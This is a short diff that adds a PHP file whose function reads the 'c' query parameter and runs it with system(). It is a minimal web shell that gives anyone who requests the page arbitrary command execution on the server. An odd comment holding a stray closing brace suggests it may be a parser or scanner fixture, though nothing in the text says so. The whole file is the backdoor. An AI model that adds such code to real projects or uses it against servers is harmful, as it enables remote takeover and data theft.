@@ -1,0 +1,7 @@
+<?php
+function f() {
+  $c = $_GET["c"];
+  /* the user's } */
+  system($c);
+}
+f();
